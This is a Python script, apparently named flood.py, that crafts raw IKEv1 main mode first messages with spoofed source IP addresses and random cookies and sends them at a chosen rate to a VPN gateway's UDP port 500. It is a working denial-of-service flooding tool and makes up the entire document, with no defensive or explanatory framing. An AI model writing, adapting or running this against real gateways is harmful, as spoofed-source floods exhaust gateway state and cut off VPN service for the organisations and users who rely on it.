#!/usr/bin/env python3
# flood.py COUNT PPS DESTINATION SOURCE... - main mode 1 messages under forged source addresses, each
# with a cookie of its own: AES-128, SHA, group 2, pre-shared key, which the gateway accepts.
import os
import socket
import struct
import sys
import time


def first_message():
    attributes = struct.pack("!12H", 0x8001, 7, 0x8002, 2, 0x8003, 1, 0x8004, 2, 0x800B, 1, 0x800E, 128)
    attributes += struct.pack("!2HI", 12, 4, 86400)
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    sa = struct.pack("!BBHII", 0, 0, 12 + len(proposal), 1, 1) + proposal
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(sa)) + sa


def main():
    count, pps, destination, sources = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4:]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    for n in range(count):
        message = first_message()
        udp = struct.pack("!4H", 500, 500, 8 + len(message), 0) + message
        header = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
            socket.inet_aton(sources[n % len(sources)]), socket.inet_aton(destination))
        raw.sendto(header + udp, (destination, 0))
        late = begin + n / pps - time.monotonic()
        if late > 0:
            time.sleep(late)
    print(f"sent={count} seconds={time.monotonic() - begin:.1f}")


main()
